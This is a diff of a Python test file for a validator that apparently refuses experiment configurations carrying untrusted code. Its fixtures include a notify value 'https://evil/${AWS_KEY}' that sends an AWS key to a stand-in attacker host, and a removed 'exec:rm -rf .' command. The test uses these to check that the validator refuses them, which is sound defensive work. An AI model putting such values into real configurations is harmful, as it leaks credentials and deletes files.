@@ -137,7 +137,7 @@ def test_admit_experiment_that_only_trains_passes_over_its_searcher(here, named)
     [
         {"trainable": IMAGE_CLASSIFIER, "training": {"dataset": "ray.x:load"}},
         {"trainable": {"command": "bash -c 1"}},
-        {"trainable": IMAGE_CLASSIFIER, "notify": ["exec:mail me"]},
+        {"trainable": IMAGE_CLASSIFIER, "notify": ["https://${HOST}"]},
     ],
 )
 def test_admit_experiment_needs_trust_for_each_kind_of_code(here, fields):
@@ -164,7 +164,7 @@ def test_admit_finds_a_network_that_only_the_journal_names(here, spelt):
     ("fields", "named"),
     [
         ({"training": {"model": "their_code:net"}}, "their_code:net"),
-        ({"notify": ["exec:rm -rf ."]}, "notify exec:rm -rf ."),
+        ({"notify": ["https://${KEY}"]}, "notify https://${KEY}"),
         ({"notify": ["https://evil/${AWS_KEY}"]}, "notify https://evil/${AWS_KEY}"),
     ],
 )
@@ -174,4 +174,4 @@ def test_validate_refuses_recorded_code_and_not_overrides(theirs, fields, named)
     with pytest.raises(UsageError) as refused:
         validate(theirs)
     assert f"  {named}" in str(refused.value)
-    assert validate(theirs, "training.model=cnn", "notify=['exec:mail me']")
+    assert validate(theirs, "training.model=cnn", "notify=['https://${HOST}']")
